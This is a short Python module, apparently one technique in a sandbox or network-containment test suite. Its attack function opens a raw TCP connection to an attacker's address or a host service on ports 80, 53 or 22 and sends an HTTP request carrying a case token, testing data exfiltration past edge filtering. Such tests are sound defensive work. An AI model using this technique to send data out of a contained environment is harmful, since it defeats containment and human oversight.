"""No name at all: an address is dialled as it is."""

from typing import Any

from space_evaluate.inside import Case
from space_evaluate.technique import BOTH, EITHER, Technique

TECHNIQUE = Technique(
    tries="Connect by TCP straight to the attacker's address, or to a service of the host.",
    claim="G3",
    defences=("edge filter and source check",),
    stopped_by=("guest_tcp",),
    goals=EITHER,
    policies=BOTH,
    variants={"the service": 0, "80": 80, "53": 53, "22": 22},
    quick=True,
)


def attack(case: Case, what: Any) -> None:
    address, port = case.target
    case.connect(address, what or port, f"GET /{case.token} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
